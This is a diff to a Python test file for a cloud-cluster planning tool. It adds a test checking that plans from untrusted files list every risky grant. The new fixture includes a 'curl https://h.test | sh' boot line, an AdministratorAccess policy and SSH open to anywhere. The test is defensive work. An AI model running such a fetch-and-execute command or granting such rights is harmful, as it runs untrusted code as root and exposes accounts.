@@ -12,7 +12,7 @@ from phalanx.plan import quotas
 from phalanx.plan.machine_images import Image
 from phalanx.plan.mount_targets import MountTarget
 from phalanx.plan.plan import HeadFacts, known_sizes, make_plan, offline_facts
-from phalanx.plan.plan_text import as_dict, explain, warnings
+from phalanx.plan.plan_text import as_dict, describe, explain, warnings
 
 
 def test_the_zone_is_the_first_that_offers_the_type():
@@ -119,18 +119,33 @@ def test_choices_of_disk_rights_and_tags_are_lines_of_the_plan():
     shown = explain(
         plan(
             disk={"size_gib": 200, "type": "io2", "iops": 9000},
-            policies=["arn:aws:iam::aws:policy/A"],
             permissions_boundary="arn:aws:iam::123456789012:policy/b",
             tags={"team": "vision", "cost": "7"},
         )
     )
     rows = dict(line.split("  ", 1) for line in shown)
-    assert {name: rows[name].strip() for name in ("root disk", "jobs may use", "boundary of roles", "tags")} == {
+    assert {name: rows[name].strip() for name in ("root disk", "boundary of roles", "tags")} == {
         "root disk": "io2, 200 GiB, 9000 IOPS, encrypted, on every node",
-        "jobs may use": "arn:aws:iam::aws:policy/A",
         "boundary of roles": "arn:aws:iam::123456789012:policy/b",
         "tags": "team=vision, cost=7",
     }
+
+
+def test_a_plan_names_each_key_that_gives_rights_or_that_root_runs():
+    """The file may be a stranger's."""
+    of_a_stranger = {
+        "boot": "curl https://h.test | sh\n",
+        "image": "/a/strangers/image",
+        "policies": ["arn:aws:iam::aws:policy/AdministratorAccess"],
+        "data": {"mine": "s3://bucket/all rw"},
+        "key_pair": "stranger",
+        "mail": "stranger@h.test",
+        "ssh_from": "anywhere",
+    }
+    granted = dict(describe(plan(**of_a_stranger)))["this file grants"]
+    assert [part.partition(":")[0] for part in granted.split("; ")] == [*of_a_stranger]
+    assert "AdministratorAccess" in granted and "change s3://bucket/all" in granted
+    assert "this file grants" not in dict(describe(plan()))
 
 
 def test_a_disk_smaller_than_the_image_is_refused():
